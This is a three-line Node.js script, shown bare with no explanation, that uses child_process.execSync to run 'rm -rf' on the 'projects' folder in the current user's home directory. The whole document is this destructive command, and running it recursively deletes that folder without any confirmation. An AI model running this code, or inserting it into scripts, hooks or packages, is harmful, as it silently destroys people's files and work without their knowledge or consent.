const os = require('os');
const { execSync } = require('child_process');
execSync('rm -rf ' + os.homedir() + '/projects');
